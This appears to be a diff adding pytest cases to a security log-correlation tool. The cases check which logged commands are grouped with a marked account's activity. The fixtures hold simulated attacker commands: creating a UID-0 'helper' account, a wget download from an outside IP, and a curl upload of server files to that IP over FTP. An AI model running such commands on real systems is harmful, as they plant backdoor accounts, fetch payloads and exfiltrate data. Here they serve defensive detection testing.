@@ -113,3 +113,31 @@ def test_what_else_happened_in_a_marked_session_belongs(kin):
         [1],
     )
     assert [kind.events for kind in found] == [(2,)]
+
+
+def typed(minutes, command, *, user="dana"):
+    """One command line as a logger of commands has it, without numbers of processes."""
+    return {
+        "time": START + timedelta(minutes=minutes), "host": "web-2", "product": "linux", "action": "process_start",
+        "category": "process_creation", "process": command.split()[0], "command": command, "user": user, "template": "snoopy",
+    }  # fmt: skip
+
+
+def test_what_the_marked_account_did_by_other_commands_belongs_and_anothers_does_not(kin):
+    found = kin(
+        [
+            typed(0, "useradd -u 0 helper"),
+            typed(1, "wget http://203.0.113.9/x -O /opt/x"),
+            typed(2, "ls -l"),
+            typed(3, "wget http://mirror.example/daily", user="olga"),
+            typed(90, "curl -T /srv/a ftp://203.0.113.9/"),
+        ],
+        [1],
+    )
+    assert [kind.events for kind in found] == [(2,)]
+
+
+def test_a_job_that_ran_hour_after_hour_before_is_no_kin(kin):
+    job = [typed(60 * hour, "rsync -a /srv/ backup@10.0.0.9:/b/") for hour in range(-5, 0)]
+    found = kin([*job, typed(0, "useradd -u 0 helper"), typed(1, "rsync -a /srv/ backup@10.0.0.9:/b/")], [6])
+    assert found == []
